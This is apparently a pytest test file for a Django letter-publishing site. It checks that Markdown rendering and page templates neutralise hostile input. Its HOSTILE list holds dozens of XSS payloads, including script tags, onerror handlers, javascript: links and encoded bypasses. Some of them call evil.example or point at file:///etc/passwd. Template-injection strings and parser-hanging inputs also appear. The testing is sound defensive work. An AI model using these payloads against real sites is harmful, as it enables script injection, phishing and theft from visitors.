"""What a staffer, or somebody with a staffer's password, writes into a letter stays words (THREATS T41, T42)."""

import time
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from letters.text import to_html
from tests.factories.letters import campaign, published_letter

TAGS = {"p", "a", "strong", "em", "code", "pre", "ol", "ul", "li", "blockquote", "hr", "br", "sup", "section"} | {
    f"h{n}" for n in range(1, 7)
}
ATTRIBUTES = {("a", "href"), ("a", "title"), ("ol", "start"), ("code", "class")}
ATTRIBUTES |= {("a", "id"), ("a", "role"), ("a", "aria-label"), ("li", "id")}
ATTRIBUTES |= {("section", "class"), ("section", "role"), ("section", "aria-label")}

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "</p></div></main><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif'>",
    '<img src="x" srcset="https://evil.example/a.png 1x">',
    "<IMG SRC=javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=attachment href=file:///etc/passwd>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example/x.css'; body{display:none}</style>",
    "<p style='background:url(//evil.example/x)'>x</p>",
    "<div onmouseover=alert(1)>x</div>",
    "<body onload=alert(1)>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=//evil.example/x.mp3 autoplay>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='https://ok.example' onclick=alert(1)>x</a>",
    "text <b onclick=alert(1)>bold</b> text",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```js onclick=alert(1)\nx\n```",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "# <script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&Tab;javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java\\script:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x]: javascript:alert(1)\n\n[x]",
    "x[^1]\n\n[^1]: <img src=x onerror=alert(1)> [y](javascript:alert(1))",
    '[x](https://ok.example "\\" onmouseover=\\"alert(1)")',
    "[x](https://ok.example 'a\" onclick=\"alert(1)')",
    '[x](https://ok.example/"onmouseover="alert(1))',
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    "![x](https://evil.example/pixel.gif)",
    "![x](javascript:alert(1))",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![<script>alert(1)</script>](x)",
    "![x][y]\n\n[y]: https://evil.example/pixel.gif",
    "[![x](https://evil.example/pixel.gif)](https://ok.example)",
    "{{ 7|add:7 }} {% load static %} {{ letter.contact_email }} %(name)s {0.__class__}",
    "\u202e<script>alert(1)</script>",
    "<\u0000script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
]


class Elements(HTMLParser):
    """Every element of a fragment, as a browser would make them."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.words: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    def handle_comment(self, data: str) -> None:
        self.found.append(("!--", {}))

    def handle_decl(self, decl: str) -> None:
        self.found.append(("!", {}))


def scheme_of(address: str) -> str:
    """The scheme a browser sees: it drops controls and outer spaces first."""
    return urlsplit("".join(character for character in address if character > " ")).scheme.lower()


def test_there_are_enough_payloads_and_none_twice() -> None:
    assert len(set(HOSTILE)) == len(HOSTILE) >= 60


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_markdown_is_inert(payload: str) -> None:
    elements = Elements(to_html(payload))

    assert {tag for tag, _ in elements.found} <= TAGS
    assert {(tag, name) for tag, attributes in elements.found for name in attributes} <= ATTRIBUTES
    links = [attributes["href"] or "" for tag, attributes in elements.found if tag == "a"]
    assert {scheme_of(link) for link in links} <= {"https", "http", "mailto", ""}


@pytest.mark.django_db
def test_hostile_words_are_inert_in_every_field_of_the_page(client) -> None:
    attack = "\"'><script>alert(1)</script><img src=x onerror=alert(1)>{{ 7|add:7 }}{% now 'Y' %}"
    fields = (
        "title",
        "salutation",
        "closing",
        "letterhead",
        "body",
        "contact_name",
        "contact_phone",
        "dear_colleague",
    )
    cause = campaign(title=attack, issue=attack[:80], summary=attack)
    cause.updates.create(type="news", date="2026-01-02", title=attack, text=attack, place=attack, source=attack)
    made = published_letter(
        campaign=cause,
        addressees=(attack,),
        listing="public",
        **{field: attack[:120] for field in fields if "phone" not in field},
    )
    made.addressees.update(title=attack, organization=attack, address=attack)

    pages = {path: client.get(path) for path in ("/", cause.get_absolute_url(), made.get_absolute_url())}
    pages |= {f"/es{path}": client.get(f"/es{path}") for path in pages}

    for path, page in pages.items():
        html = page.content.decode()
        elements = Elements(html)
        assert page.status_code == 200, path
        assert {tag for tag, _ in elements.found} & {"script", "img", "iframe", "object"} == set(), path
        assert {name for _, attributes in elements.found for name in attributes if name.startswith("on")} == set(), (
            path
        )
        assert "{{ 7|add:7 }}" in "".join(elements.words), path


@pytest.mark.parametrize("payload", [one for one in HOSTILE if "![" in one])
def test_no_image_is_ever_fetched(payload: str) -> None:
    found = Elements(to_html(payload)).found

    assert [tag for tag, attributes in found if tag == "img" or "src" in attributes] == []


@pytest.mark.parametrize("target", ["javascript:alert(1)", "vbscript:x", "file:///etc/passwd", "data:text/html,x"])
def test_a_dangerous_link_is_no_link_and_its_words_stay(target: str) -> None:
    elements = Elements(to_html(f"Read [this]({target}) first."))

    assert [tag for tag, _ in elements.found] == ["p"]
    assert "this" in "".join(elements.words)


def test_a_plain_link_stays_a_link() -> None:
    html = to_html("See [the report](https://report.example/a?b=1&c=2).")

    assert html == '<p>See <a href="https://report.example/a?b=1&amp;c=2">the report</a>.</p>\n'


def test_numbered_demands_keep_their_numbers() -> None:
    html = to_html("We ask you to:\n\n3. End it.\n4. Audit it:\n   1. here,\n   2. there.\n\nThen stop.")

    assert html == (
        "<p>We ask you to:</p>\n"
        '<ol start="3">\n<li>End it.</li>\n<li>Audit it:\n<ol>\n<li>here,</li>\n<li>there.</li>\n</ol>\n</li>\n</ol>\n'
        "<p>Then stop.</p>\n"
    )


def test_quotes_and_dashes_are_shown_as_they_were_signed() -> None:
    assert to_html('"Don\'t" -- they said... (c) 2011') == "<p>&quot;Don't&quot; -- they said... (c) 2011</p>\n"


@pytest.mark.parametrize(
    "body",
    [
        "[" * 20_000,
        "![" * 20_000,
        "*a " * 20_000,
        "**" * 20_000,
        ">" * 20_000,
        "`" * 20_001 + "x",
        "<" * 20_000,
        "- " * 10_000,
        "[a](" * 10_000,
        "\\" * 20_001,
        "&" * 20_000,
        "x" * 100_000,
    ],
    ids=lambda body: f"{body[:4]}…",
)
def test_a_pathological_text_does_not_hang_the_page(body: str) -> None:
    began = time.process_time()

    to_html(body)

    assert time.process_time() - began < 20  # a guard against hanging, not a measurement
